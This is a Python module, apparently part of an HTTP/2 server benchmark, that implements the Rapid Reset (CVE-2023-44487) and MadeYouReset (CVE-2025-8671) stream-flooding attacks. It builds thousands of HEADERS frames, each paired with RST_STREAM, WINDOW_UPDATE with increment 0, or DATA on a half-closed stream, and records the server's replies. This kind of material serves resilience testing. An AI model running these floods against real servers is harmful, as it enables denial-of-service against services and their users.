"""Streams opened and reset at once: the concurrency limit never binds.

A stream that is reset no longer counts against SETTINGS_MAX_CONCURRENT_STREAMS
(RFC 9113 §5.1.2), so a client can make a server start any number of
requests while never having more than one open.

* **Rapid reset**, CVE-2023-44487: the client resets each stream itself,
  HEADERS + RST_STREAM(CANCEL), thousands per write; with END_STREAM on the
  HEADERS the request is complete before it is reset, without it the request
  is still arriving.
* **MadeYouReset**, CVE-2025-8671: the client makes the *server* reset each
  stream, so that a budget over the client's RST_STREAMs never sees them: a
  frame that is a stream error right after a complete request, such as
  WINDOW_UPDATE with increment 0 (a stream error, §6.9) or DATA on a stream
  the client already half-closed (STREAM_CLOSED, §5.1).
"""

from __future__ import annotations

from collections.abc import Callable

from benchmarks.attacks.attacker import Attacker
from benchmarks.attacks.describe import answers, ending
from benchmarks.attacks.model import Context, Outcome
from benchmarks.attacks.wire import (
    DATA,
    HEADERS,
    encode_frame,
    headers_frame,
    request_block,
    rst_stream,
    window_update,
)

__all__ = ["data_on_half_closed", "rapid_reset", "rapid_reset_open", "window_update_zero"]


def streams(ctx: Context, per_stream: Callable[[int, bytes], bytes]) -> Outcome:
    """`ctx.size` streams 1, 3, 5, ..., each `per_stream(stream_id, block)`, in as few writes
    as the socket allows; then read the answers until the server is done."""
    block = request_block()
    frames = b"".join(per_stream(stream_id, block) for stream_id in range(1, 2 * ctx.size, 2))
    per = len(frames) // ctx.size
    attacker = Attacker(ctx)
    try:
        attacker.handshake()
        handshake = dict(attacker.scanner.counts)
        written = attacker.pour(frames, seconds=ctx.seconds)
        attacker.wait_quiet(ctx, attacker.time_left(ctx))
        return _outcome(ctx, attacker, written // per, handshake)
    finally:
        attacker.close()


def _outcome(ctx: Context, attacker: Attacker, sent: int, handshake: dict[int, int]) -> Outcome:
    scanner = attacker.scanner
    goaway = scanner.goaway
    # What the server saw: the last stream id it names, when it says GOAWAY (§6.8).
    seen = (goaway.last_stream_id + 1) // 2 if goaway is not None else sent
    parts = [ending(attacker, seen, "streams")]
    responses = scanner.count(HEADERS)
    if responses:
        parts.append(f"{responses:,} answered")
    if scanner.resets:
        parts.append(scanner.reset_summary())
    text = "; ".join(p for p in parts if p) or f"all {sent:,} streams taken; nothing"
    return Outcome(
        text,
        sent,
        stopped=goaway is not None or attacker.closed,
        details={
            "answers": answers(scanner, skip=handshake),
            "streams_seen_by_server": seen,
            "responses": responses,
        },
    )


def rapid_reset(ctx: Context) -> Outcome:
    """Complete requests (END_STREAM), each reset at once."""
    return streams(ctx, lambda i, block: headers_frame(i, block, end_stream=True) + rst_stream(i))


def rapid_reset_open(ctx: Context) -> Outcome:
    """Requests still arriving (no END_STREAM), each reset at once."""
    return streams(ctx, lambda i, block: headers_frame(i, block, end_stream=False) + rst_stream(i))


def window_update_zero(ctx: Context) -> Outcome:
    """A complete request, then WINDOW_UPDATE with increment 0 on its stream."""
    return streams(
        ctx, lambda i, block: headers_frame(i, block, end_stream=True) + window_update(i, 0)
    )


def data_on_half_closed(ctx: Context) -> Outcome:
    """A complete request, then one byte of DATA on it: the client already ended it."""
    return streams(
        ctx,
        lambda i, block: headers_frame(i, block, end_stream=True) + encode_frame(DATA, 0, i, b"x"),
    )
